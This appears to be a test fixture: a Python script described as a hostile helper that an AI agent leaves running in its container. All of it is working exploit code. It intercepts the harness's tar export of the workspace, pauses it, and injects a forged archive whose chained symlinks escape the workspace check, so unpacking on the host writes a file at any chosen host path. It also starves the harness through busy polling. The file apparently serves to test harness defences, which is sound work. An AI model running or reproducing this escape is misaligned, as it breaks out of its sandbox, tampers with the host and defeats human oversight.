"""Hostile helper left running in an agent's container (tests/test_tampering.py).

It waits for the harness to read the workspace out (`tar -c -C /workspace .` under `timeout`), then
writes a forged archive into that process's stdout through /proc/<pid>/fd/1 (same uid, so allowed).
The forged archive uses two links that look inside the workspace to a lexical check but resolve
outside it, and a regular file under them: unpacked on the host it lands in argv[1].

Usage: python3 forge_tar.py /absolute/host/folder   (creates /tmp/forge.ready once it is watching)
"""

import io
import os
import signal
import sys
import tarfile
import time

DEPTH = 12  # deeper than any temporary folder the host unpacks into


def _forged(target_dir: str) -> bytes:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.GNU_FORMAT) as tf:
        deep = "/".join(f"d{i}" for i in range(DEPTH))
        up = tarfile.TarInfo(f"./{deep}/up")  # -> the workspace root (allowed: lexically inside)
        up.type, up.linkname = tarfile.SYMTYPE, "/".join([".."] * DEPTH)
        tf.addfile(up)
        esc = tarfile.TarInfo("./esc")  # lexically the root again; really DEPTH levels above it: "/"
        esc.type, esc.linkname = tarfile.SYMTYPE, f"{deep}/up/" + "/".join([".."] * DEPTH)
        tf.addfile(esc)
        data = b"written on the host by the agent\n"
        f = tarfile.TarInfo("./esc" + target_dir.rstrip("/") + "/pwned")
        f.size, f.mode = len(data), 0o644
        tf.addfile(f, io.BytesIO(data))
    return buf.getvalue()


def main() -> None:
    forged = _forged(sys.argv[1])
    needle = b"tar\0-c\0-C\0/workspace\0"
    before = set(os.listdir("/proc"))  # this agent's own processes
    open("/tmp/forge.ready", "w").close()
    deadline = time.monotonic() + 600
    # Busy polling: the container's CPU quota then also slows down the harness's `timeout` and `tar`.
    while time.monotonic() < deadline:
        for p in os.listdir("/proc"):
            if not p.isdigit() or p in before:
                continue
            try:
                with open(f"/proc/{p}/cmdline", "rb") as f:
                    cmd = f.read()
            except OSError:
                continue
            if needle in cmd:
                _hijack(int(p), forged)
                return


def _hijack(pid: int, forged: bytes) -> None:
    os.kill(pid, signal.SIGSTOP)  # `timeout`, or tar itself
    # If `timeout` already started tar, stop tar too (it shares the same stdout).
    stopped = [pid]
    for q in os.listdir("/proc"):
        if q.isdigit() and int(q) != pid:
            try:
                with open(f"/proc/{q}/stat") as f:
                    ppid = int(f.read().rsplit(")", 1)[1].split()[1])
            except (OSError, ValueError, IndexError):
                continue
            if ppid == pid:
                os.kill(int(q), signal.SIGSTOP)
                stopped.append(int(q))
    fd = os.open(f"/proc/{pid}/fd/1", os.O_WRONLY)
    os.write(fd, forged)  # ends with tar's end-of-archive blocks: the real output after it is ignored
    os.close(fd)
    for q in stopped:
        os.kill(q, signal.SIGCONT)


if __name__ == "__main__":
    main()
